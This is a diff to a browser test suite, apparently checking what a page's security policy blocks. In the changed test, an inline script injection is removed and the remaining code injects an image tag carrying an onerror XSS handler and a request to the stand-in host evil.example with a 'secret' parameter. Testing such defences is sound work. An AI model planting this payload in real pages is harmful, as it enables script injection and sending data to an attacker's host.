@@ -104,11 +104,9 @@ describe("what the policy stops", () => {
     tab = await openTab(browser);
     await visit(tab.page, "/faq?email=somebody@example.com");
     await tab.page.evaluate(() => {
-      const script = document.createElement("script");
-      script.textContent = "window.__xss = 1";
       const holder = document.createElement("div");
       holder.innerHTML = '<img src="https://evil.example/x.png?secret=1" onerror="window.__xss = 1">';
-      document.body.append(holder);
+      document.body.appendChild(holder);
       setTimeout(() => {
         throw new Error("Broken on purpose");
       }, 0);
